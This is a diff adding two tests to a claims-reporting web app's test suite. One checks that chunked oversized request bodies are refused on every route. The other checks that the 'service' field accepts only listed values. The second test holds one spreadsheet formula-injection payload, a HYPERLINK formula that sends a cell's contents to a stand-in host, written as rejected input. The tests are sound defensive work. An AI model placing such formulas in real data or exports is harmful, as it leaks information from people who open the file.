@@ -79,6 +79,19 @@ def test_oversized_bodies_are_refused(claims_app):
     assert r.status_code == 413
 
 
+def test_every_route_caps_its_body_however_it_is_sent(claims_app):
+    """Chunked (no Content-Length) bodies too, on the portal, the status lookup and the review."""
+    def chunked():
+        for _ in range(64):
+            yield b"a=" + b"x" * 4096 + b"&"
+    for path in ("/report", "/status", "/review/login", "/review/bulk-approve", "/api/reports/status",
+                 "/api/reports"):
+        r = httpx.post(claims_app["url"] + path, content=chunked(),
+                       headers={"Content-Type": "application/x-www-form-urlencoded"}, timeout=10)
+        assert r.status_code == 413, (path, r.status_code, r.text[:200])
+        assert "request body over" in r.json()["error"]
+
+
 def test_an_unknown_answer_is_503_not_no_such_report(claims_db, tmp_path):
     """With no database server answering, a lookup is unknown: 503 in ko and en, never the 404
     that tells a person their report does not exist (they would file it again)."""
@@ -195,3 +208,14 @@ def test_report_numbers_answer_nobody_and_status_lookups_are_throttled_like_the_
                    for i in range(10)]
     limited = [g for g in guesses if g.status_code == 429]
     assert limited and all(g.headers.get("retry-after") for g in limited)
+
+
+def test_a_report_names_a_service_from_the_policy_and_nothing_else(claims_app):
+    r = httpx.post(claims_app["url"] + "/api/reports", json={**REPORT, "service": '=HYPERLINK("http://x/?"&D2,"y")'})
+    assert r.status_code == 422
+    err = r.json()["errors"][0]
+    assert err["field"] == "service" and "messenger" in err["reason"]
+    with httpx.Client(base_url=claims_app["url"]) as c:
+        key = form_key(c.get("/?lang=en").text)
+        forged = c.post("/report", data={**FORM, "service": "free text", "form_key": key, "language": "en"})
+    assert forged.status_code == 422 and "Choose a service from the list" in forged.text
